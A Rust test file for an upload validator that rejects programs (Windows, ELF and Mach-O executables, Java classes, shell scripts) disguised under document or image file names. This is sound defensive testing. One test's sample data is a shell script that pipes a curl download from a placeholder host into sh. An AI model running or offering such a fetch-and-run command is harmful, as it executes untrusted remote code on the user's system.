//! Tests of the rejection of programs under any name.

use super::*;

fn mach_o(magic: [u8; 4], next_word: u32) -> Vec<u8> {
    let mut out = magic.to_vec();
    out.extend_from_slice(&next_word.to_be_bytes());
    out.resize(64, 0);
    out
}

#[test]
fn windows_executable_named_pdf_is_rejected() {
    let outcome = check("invoice.pdf", &build::windows_executable());
    assert_rejected(&outcome, "content is a Windows executable");
    assert_eq!(outcome.declared, "application/pdf");
    assert_eq!(
        outcome.detected,
        "application/vnd.microsoft.portable-executable"
    );
}

#[test]
fn elf_named_txt_is_rejected() {
    let outcome = check("notes.txt", &build::elf());
    assert_rejected(&outcome, "content is an ELF executable");
    assert_eq!(outcome.detected, "application/x-executable");
}

#[test]
fn mach_o_binaries_are_rejected() {
    let samples = [
        mach_o([0xCF, 0xFA, 0xED, 0xFE], 7),
        mach_o([0xFE, 0xED, 0xFA, 0xCE], 18),
        // A universal binary with two architectures.
        mach_o([0xCA, 0xFE, 0xBA, 0xBE], 2),
    ];
    for sample in samples {
        let outcome = check("photo.png", &sample);
        assert_rejected(&outcome, "content is a Mach-O executable");
        assert_eq!(outcome.detected, "application/x-mach-binary");
    }
}

#[test]
fn java_class_is_not_a_universal_binary() {
    // Major version 52 (Java 8) sits where a universal binary counts its architectures.
    let outcome = check("photo.png", &mach_o([0xCA, 0xFE, 0xBA, 0xBE], 52));
    assert_rejected(&outcome, "content is a Java class file");
}

#[test]
fn shell_script_named_csv_is_rejected() {
    let script = b"#!/bin/sh\ncurl http://example.invalid | sh\n";
    let outcome = check("data.csv", script);
    assert_rejected(&outcome, "content is a script starting with #!");
    assert_eq!(outcome.detected, "text/x-shellscript");
}

#[test]
fn script_passes_as_text_when_executables_allowed() {
    let script = b"#!/usr/bin/env python3\nprint('hi')\n";
    let executables = PolicyOptions {
        allow_executables: true,
        ..PolicyOptions::default()
    };
    assert_accepted(&check_with("notes.txt", script, executables));
    assert_accepted(&check_with("run.sh", script, executables));
}

#[test]
fn allowed_program_must_match_its_extension() {
    let outcome = check_with("setup.exe", &build::elf(), ALLOW_ALL);
    assert_rejected(
        &outcome,
        "content is not a Windows executable (detected application/x-executable)",
    );
    assert_accepted(&check_with("libx.so", &build::elf(), ALLOW_ALL));
    assert_accepted(&check_with(
        "libx.dylib",
        &mach_o([0xCA, 0xFE, 0xBA, 0xBE], 2),
        ALLOW_ALL,
    ));
}

#[test]
fn allowed_program_still_fails_other_types() {
    let outcome = check_with("invoice.pdf", &build::windows_executable(), ALLOW_ALL);
    assert_rejected(
        &outcome,
        "content is not a PDF document (detected application/vnd.microsoft.portable-executable)",
    );
}

#[test]
fn text_starting_with_mz_is_text() {
    let outcome = check("postcodes.txt", b"MZ is not a program here\n");
    assert_accepted(&outcome);
    assert_eq!(outcome.detected, "text/plain");
}

#[test]
fn pe_header_past_head_is_rejected() {
    let mut program = build::windows_executable();
    let header_at = 0x10000u32;
    program[0x3C..0x40].copy_from_slice(&header_at.to_le_bytes());
    program.resize(header_at as usize, 0);
    program.extend_from_slice(b"PE\0\0\x64\x86");
    let outcome = check("photo.png", &program);
    assert_rejected(&outcome, "content is a Windows executable");
}

#[test]
fn long_text_starting_with_mz_is_text() {
    let text = "MZ postcodes and more words\n".repeat(1000);
    assert!(text.len() > crate::content::HEAD_LEN);
    assert_accepted(&check("postcodes.txt", text.as_bytes()));
}
